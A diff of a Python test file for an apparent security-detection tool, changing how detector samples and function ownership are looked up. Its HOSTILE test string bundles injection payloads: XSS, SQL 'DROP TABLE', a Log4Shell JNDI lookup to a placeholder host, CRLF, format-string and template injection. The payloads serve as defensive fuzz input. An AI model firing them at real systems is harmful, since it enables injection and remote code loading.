@@ -6,11 +6,12 @@ from collections import Counter
 
 import pytest
 
+import detectors
 import records
 from live import DETECTORS, SWEEP, Live
 
 HOSTILE = "\u202e\x1b[31m<script>alert(1)</script>`'\";DROP TABLE findings;--${jndi:ldap://x/y}\r\nX: y %s %n {{7*7}}"
-GOOD = {
+GOOD = detectors.SAMPLES | {
     "handsoff-drift": "drift-write.start-session.json",
     "handsoff-break-glass": "glass-opened.assume-role.json",
     "handsoff-deny-spike": "deny-probing.jsonl",
@@ -129,7 +130,7 @@ def test_odd_fields_are_judged_as_in_replay(live: Live, samples: dict[str, list[
         key: verdict
         for key, verdict in records.verdicts(records.replay(events, live.policy)).items()
         # What is said of a session as a whole is the sweep's, which doesn't run here.
-        if records.FUNCTIONS[key[0].split("-")[0]] == function and verdict[0] not in records.WHOLE
+        if detectors.owner({"incident": key[0], "code": verdict[0]}) == function and verdict[0] not in records.WHOLE
     }
     assert live.verdicts() == findings
 
